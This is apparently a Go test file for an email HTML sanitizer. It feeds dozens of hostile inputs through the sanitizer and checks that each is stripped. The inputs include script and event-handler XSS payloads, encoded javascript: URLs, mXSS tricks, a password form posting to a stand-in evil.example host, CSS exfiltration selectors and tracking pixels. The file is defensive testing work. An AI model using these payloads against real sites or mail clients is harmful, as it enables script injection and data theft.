package msgview

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// sanitize runs SanitizeHTML on s with default options.
func sanitize(t *testing.T, s string, opt SanitizeOptions) (string, Result) {
	t.Helper()
	var b strings.Builder
	res, err := SanitizeHTML(&b, strings.NewReader(s), opt)
	if err != nil {
		t.Fatalf("SanitizeHTML(%q): %v", s, err)
	}
	return b.String(), res
}

// TestSanitizeHostile: every hostile construct is removed, what is
// harmless around it stays.
func TestSanitizeHostile(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in string
		absent   []string // lower-cased substrings that must not remain
		present  []string // substrings that must remain
		remote   int      // Result.RemoteBlocked at least
	}{
		{"script", `<p>hi</p><script>alert(1)</script><p>there</p>`, []string{"<script", "alert"}, []string{"<p>hi</p>", "<p>there</p>"}, 0},
		{"script mixed case", `<ScRiPt>alert(1)</sCrIpT>ok`, []string{"script", "alert"}, []string{"ok"}, 0},
		{"onerror", `<img src=x onerror=alert(1)>text`, []string{"onerror", "alert"}, []string{"text"}, 0},
		{"onload body", `<body onload="alert(1)"><p>x</p></body>`, []string{"onload", "alert"}, []string{"<p>x</p>"}, 0},
		{"onclick mixed case", `<div OnClIcK="alert(1)">x</div>`, []string{"onclick", "alert"}, []string{"<div>x</div>"}, 0},
		{"form", `<form action="https://evil.example/steal"><input name=p type=password><button>Go</button></form>after`, []string{"<form", "<input", "evil.example", "action"}, []string{"after"}, 0},
		{"remote image", `<img src="https://tracker.example/p.gif" width=1>`, []string{"tracker.example", "<img"}, nil, 1},
		{"protocol-relative image", `<img src="//tracker.example/p.gif">`, []string{"tracker.example"}, nil, 1},
		{"srcset", `<img src="cid:none" srcset="https://tracker.example/a.png 2x">`, []string{"tracker.example"}, nil, 1},
		{"background attribute", `<table background="https://tracker.example/bg.png"><tr><td>x</td></tr></table>`, []string{"tracker.example"}, []string{"<td>x</td>"}, 1},
		{"css url in style attribute", `<div style="color: red; background: url(https://evil.example/x)">x</div>`, []string{"url(", "evil.example"}, []string{"color: red"}, 1},
		{"css escaped url", `<div style="background: u\72 l(https://evil.example/x)">x</div>`, []string{"evil.example", `\`}, nil, 1},
		{"css entity-encoded url", `<div style="background: &#117;rl(https://evil.example/x)">x</div>`, []string{"evil.example"}, nil, 1},
		{"css import", `<style>@import url(https://evil.example/a.css); p { color: red }</style>`, []string{"@import", "evil.example"}, []string{"color: red"}, 1},
		{"css import string", `<style>@import "https://evil.example/a.css";</style>`, []string{"evil.example"}, nil, 1},
		{"css exfiltration selector", `<style>input[value^="a"] { background: url(https://evil.example/a) } p{color:blue}</style>`, []string{"evil.example"}, []string{"color: blue"}, 1},
		{"css font-face", `<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }</style>`, []string{"evil.example", "font-face"}, nil, 1},
		{"css expression", `<div style="width: expression(alert(1))">x</div>`, []string{"expression", "alert"}, nil, 0},
		{"css binding", `<div style="-moz-binding: url(https://evil.example/x.xml#y)">x</div>`, []string{"binding", "evil.example"}, nil, 0},
		{"css image-set", `<div style="background-image: image-set('https://evil.example/a.png' 1x)">x</div>`, []string{"evil.example"}, nil, 1},
		{"style closes early", `<style>p{color:red}</style><style>a{}</style</style><script>alert(1)</script>`, []string{"<script", "alert"}, nil, 0},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example/">x`, []string{"refresh", "evil.example", "<meta"}, []string{"x"}, 0},
		{"base", `<base href="https://evil.example/"><a href="/x">x</a>`, []string{"<base", "evil.example"}, nil, 0},
		{"link stylesheet", `<link rel=stylesheet href="https://evil.example/a.css">x`, []string{"<link", "evil.example"}, []string{"x"}, 1},
		{"javascript href", `<a href="javascript:alert(1)">x</a>`, []string{"javascript", "alert"}, []string{">x</a>"}, 0},
		{"javascript href entity encoded", `<a href="&#106;&#97;vascript&colon;alert(1)">x</a>`, []string{"javascript", "alert"}, nil, 0},
		{"javascript href with tab", "<a href=\"java\tscript:alert(1)\">x</a>", []string{"script:", "alert"}, nil, 0},
		{"javascript href leading space", `<a href="  JaVaScRiPt:alert(1)">x</a>`, []string{"javascript", "alert"}, nil, 0},
		{"vbscript href", `<a href="vbscript:msgbox(1)">x</a>`, []string{"vbscript", "msgbox"}, nil, 0},
		{"data href", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, []string{"data:", "base64"}, nil, 0},
		{"data svg image", `<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">`, []string{"svg", "<img"}, nil, 0},
		{"svg with script", `<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)"><text>t</text></a></svg>after`, []string{"svg", "alert", "javascript"}, []string{"after"}, 0},
		{"svg onload", `<svg/onload=alert(1)>x`, []string{"svg", "alert"}, nil, 0},
		{"math mxss", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, []string{"onerror", "alert", "<math"}, nil, 0},
		{"iframe", `<iframe src="https://evil.example/"></iframe>ok`, []string{"iframe", "evil.example"}, []string{"ok"}, 0},
		{"object embed", `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">ok`, []string{"object", "embed", "evil.example"}, []string{"ok"}, 0},
		{"noscript mxss", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, []string{"onerror", "alert"}, nil, 0},
		{"comment trick", `<!--<img src=x onerror=alert(1)>-->ok`, []string{"onerror", "alert"}, []string{"ok"}, 0},
		{"attribute breaking quote", `<p title='a" onmouseover="alert(1)'>x</p>`, []string{`" onmouseover`}, nil, 0},
		{"textarea escape", `<textarea><img src=x onerror=alert(1)></textarea>ok`, []string{"onerror", "textarea"}, []string{"ok"}, 0},
		{"template", `<template><script>alert(1)</script></template>ok`, []string{"alert", "template"}, []string{"ok"}, 0},
		{"xmp", `<xmp><script>alert(1)</script></xmp>ok`, []string{"alert"}, []string{"ok"}, 0},
		{"id and name clobbering", `<p id="x" name="y">x</p>`, []string{"id=", "name="}, []string{"<p>x</p>"}, 0},
		{"uppercase javascript src", `<IMG SRC=JaVaScRiPt:alert(1)>x`, []string{"javascript", "alert"}, []string{"x"}, 0},
		{"newline entity in scheme", `<a href="jav&#x0A;ascript:alert(1)">x</a>`, []string{"script:", "alert"}, nil, 0},
		{"control character before scheme", `<a href="&#14; javascript:alert(1)">x</a>`, []string{"javascript", "alert"}, nil, 0},
		{"slash separated attributes", `<a/href="javascript:alert(1)">x</a><img/src="x"/onerror="alert(2)">`, []string{"javascript", "alert", "onerror"}, nil, 0},
		{"entity-encoded css parens", `<div style="background:url&#40;https://evil.example/x&#41;">x</div>`, []string{"evil.example"}, nil, 1},
		{"escaped expression", `<div style="width: expr5 ssion(alert(1))">x</div>`, []string{"ssion", "alert"}, nil, 0},
		{"behavior", `<p style="behavior: url(x.htc)">x</p>`, []string{"behavior", "htc"}, nil, 0},
		{"comment inside url", `<div style="background: u/**/rl(https://evil.example/x)">x</div>`, []string{"evil.example"}, nil, 0},
		{"style attribute breakout", `<p style="color:red&quot; onclick=&quot;alert(1)">x</p>`, []string{"onclick=", `" onclick`}, nil, 0},
		{"data image svg as image src", `<img src="DATA:image/svg+xml,<svg onload=alert(1)>">`, []string{"svg", "alert"}, nil, 0},
		{"formaction", `<button formaction="javascript:alert(1)">x</button>`, []string{"formaction", "javascript"}, nil, 0},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			out, res := sanitize(t, tc.in, SanitizeOptions{})
			low := strings.ToLower(out)
			for _, a := range tc.absent {
				if strings.Contains(low, strings.ToLower(a)) {
					t.Errorf("output holds %q:\n%s", a, out)
				}
			}
			for _, p := range tc.present {
				if !strings.Contains(out, p) {
					t.Errorf("output lacks %q:\n%s", p, out)
				}
			}
			if res.RemoteBlocked < tc.remote {
				t.Errorf("RemoteBlocked = %d, want at least %d", res.RemoteBlocked, tc.remote)
			}
			checkInert(t, out)
		})
	}
}

// checkInert parses the output as a browser would and fails on any
// script, event handler, dangerous URL or remote fetch in it.
func checkInert(t testing.TB, out string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatalf("output does not parse: %v", err)
	}
	var visit func(n *html.Node)
	visit = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "script", "iframe", "object", "embed", "form", "input", "svg", "math", "base", "link", "frame", "textarea", "template":
				t.Fatalf("output holds <%s>: %s", n.Data, out)
			case "meta": // the frame document's own
				if len(n.Attr) == 0 || !(n.Attr[0].Key == "charset" || n.Attr[0].Key == "name" && n.Attr[0].Val == "referrer") {
					t.Fatalf("output holds <meta>: %s", out)
				}
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				val := strings.ToLower(cleanURL(a.Val))
				switch {
				case strings.HasPrefix(key, "on"):
					t.Fatalf("output holds handler %s: %s", a.Key, out)
				case key == "href" && !(strings.HasPrefix(val, "http:") || strings.HasPrefix(val, "https:") || strings.HasPrefix(val, "mailto:") || strings.HasPrefix(val, "#")):
					t.Fatalf("output holds href %q: %s", a.Val, out)
				case key == "src" && !(strings.HasPrefix(val, "data:image/") || strings.HasPrefix(val, "https://caucus.test/")):
					t.Fatalf("output holds src %q: %s", a.Val, out)
				case key == "style" && !cssInert(a.Val):
					t.Fatalf("output holds style %q: %s", a.Val, out)
				case key == "srcset" || key == "background" || key == "action" || key == "formaction":
					t.Fatalf("output holds %s: %s", a.Key, out)
				}
			}
			if n.Data == "style" && n.FirstChild != nil && !cssInert(n.FirstChild.Data) {
				t.Fatalf("output holds style sheet %q", n.FirstChild.Data)
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			visit(c)
		}
	}
	visit(doc)
}

// cssInert reports whether CSS has nothing that fetches or runs.
func cssInert(css string) bool {
	low := strings.ToLower(css)
	for _, bad := range []string{"url(", "@import", "expression", "image-set", "binding", `\`, "image(", "@font-face"} {
		if strings.Contains(low, bad) {
			return false
		}
	}
	return true
}
